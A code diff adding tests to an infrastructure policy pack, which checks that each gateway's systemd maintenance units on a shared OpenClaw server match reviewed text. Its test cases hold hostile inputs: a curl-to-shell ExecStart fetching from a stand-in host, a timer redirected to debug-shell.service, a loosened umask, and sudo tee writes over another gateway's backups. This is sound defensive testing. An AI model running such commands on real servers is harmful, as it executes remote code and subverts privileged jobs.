@@ -6,7 +6,8 @@ import { renderMaintenanceUnits } from "../../components/openclaw/maintenance";
 import { parseSettings } from "../../settings/load";
 import { PROJECT } from "../../plan/capture";
 import { baseValues, rawConfig } from "../fixtures/stack";
-import { base64, by, deployment, handBuilt, messages, remoteCommand, violationsOf } from "./harness";
+import { gatewayLayout } from "../../components/openclaw/layout";
+import { base64, by, command, deployment, handBuilt, messages, remoteCommand, restep, sharedServer, violationsOf } from "./harness";
 
 const RULE = "privileged-units-allowlisted";
 const SANDBOXED_12 = { agentAccess: "sandboxed", image: "debian-12" };
@@ -176,5 +177,63 @@ describe(`${RULE}: the maintenance units`, () => {
       const v = await violationsOf(withMaintenance({}, [{ path, content: "exit 0\n" }]));
       expect(messages(v, RULE), path).toContain(`writes ${path}, where only the maintenance step's and the deploy gate's reviewed scripts write`);
     }
+  });
+});
+
+describe(`${RULE}: a shared server's maintenance units (each gateway's, named -<id>)`, () => {
+  const alice = renderMaintenanceUnits(gatewayLayout("alice"));
+  /** The shared server with alice's maintenance step shipping `units` (file name -> text) instead of its own. */
+  const aliceShips = (units: Record<string, string>) => () => {
+    const input: Record<string, string> = {
+      "openclaw-verify-alice.service": "OC_VERIFY_SERVICE_B64",
+      "openclaw-backup-alice.service": "OC_BACKUP_SERVICE_B64",
+      "openclaw-retention-alice.timer": "OC_RETENTION_TIMER_B64",
+    };
+    sharedServer(undefined, { transformations: [restep("openclaw-alice-maintenance", Object.fromEntries(Object.entries(units).map(([n, t]) => [input[n], base64(t)])))] });
+  };
+
+  it("passes every gateway's jobs as the program renders them for its id, and the one notifier they share", async () => {
+    expect(by(await violationsOf(() => sharedServer()), RULE)).toEqual([]);
+  });
+
+  it.each<[string, string, (u: string) => string]>([
+    ["a backup job with a looser umask", "openclaw-backup-alice.service", (u) => u.replace("UMask=0077", "UMask=0022")],
+    ["a verification that runs something else", "openclaw-verify-alice.service", (u) => u.replace(/^ExecStart=.*$/m, "ExecStart=/bin/sh -c 'curl -s https://x.example/p | sh'")],
+    ["a backup job that writes bob's archives (bob's text at alice's name)", "openclaw-backup-alice.service", () => renderMaintenanceUnits(gatewayLayout("bob"))["openclaw-backup-bob.service"]],
+    ["a timer that starts another unit", "openclaw-retention-alice.timer", (u) => u.replace("Unit=openclaw-retention-alice.service", "Unit=debug-shell.service")],
+    ["the server's only gateway's job at alice's name", "openclaw-verify-alice.service", () => renderMaintenanceUnits()["openclaw-verify.service"]],
+  ])("refuses %s", async (_, name, edit) => {
+    const v = await violationsOf(aliceShips({ [name]: edit(alice[name]) }));
+    expect(messages(v, RULE)).toContain(`unit ${name} (step maintenance, input `);
+    expect(messages(v, RULE)).toContain("is not the maintenance unit the pack knows (policies/lib/known-maintenance-gateway.json, for gateway alice)");
+    expect(by(v, RULE).map((x) => x.urn.split("::").pop())).toEqual(["openclaw-alice-maintenance"]);
+  });
+
+  it("refuses a gateway's known job text shipped by another step, under a drop-in, or at an id no maintenance step has", async () => {
+    const after = (path: string, content: string) => () => {
+      const d = sharedServer();
+      const create = `echo ${base64(content)} | base64 -d | sudo tee ${path} >/dev/null`;
+      new command.remote.Command("unit-step", { connection: { host: d.ipv4, user: "ops", privateKey: "k" }, create }, { dependsOn: [d.gateways[1].gateway.maintenance.command] });
+    };
+    const shipped = messages(await violationsOf(after("/etc/systemd/system/openclaw-verify-alice.service", alice["openclaw-verify-alice.service"])), RULE);
+    expect(shipped).toContain("unit openclaw-verify-alice.service (step 'unit-step' (create) (tee writes)) is shipped by step 'unit-step' other than the maintenance step");
+    const dropIn = messages(await violationsOf(after("/etc/systemd/system/openclaw-backup-alice.service.d/zz.conf", "[Service]\nUMask=0022\n")), RULE);
+    expect(dropIn).toContain("drop-in /etc/systemd/system/openclaw-backup-alice.service.d/zz.conf (step 'unit-step' (create) (tee writes)) applies to the maintenance unit(s) openclaw-backup-alice.service");
+    // The names of every id are the jobs' (carol has no gateway here): a unit there is a job or refused.
+    const carol = renderMaintenanceUnits(gatewayLayout("carol"))["openclaw-verify-carol.service"];
+    expect(messages(await violationsOf(after("/etc/systemd/system/openclaw-verify-carol.service", carol)), RULE)).toContain("is shipped by step 'unit-step' other than the maintenance step");
+    const harmless = "[Service]\nUser=nobody\nNoNewPrivileges=yes\nExecStart=/usr/bin/true\n";
+    expect(messages(await violationsOf(after("/etc/systemd/system/openclaw-backup-carol.service", harmless)), RULE)).toContain(
+      "unit openclaw-backup-carol.service (step 'unit-step' (create) (tee writes)) is not the maintenance unit the pack knows (policies/lib/known-maintenance-gateway.json, for gateway carol)",
+    );
+  });
+
+  it("refuses any other step writing a gateway's backups", async () => {
+    const v = await violationsOf(() => {
+      const d = sharedServer();
+      const create = "echo x | sudo tee /var/backups/openclaw-bob/scheduled-x.tar.gz >/dev/null";
+      new command.remote.Command("swap-archive", { connection: { host: d.ipv4, user: "ops", privateKey: "k" }, create }, { dependsOn: [d.gateways[1].gateway.maintenance.command] });
+    });
+    expect(messages(v, RULE)).toContain("writes /var/backups/openclaw-bob/scheduled-x.tar.gz, where only the maintenance step's and the deploy gate's reviewed scripts write");
   });
 });
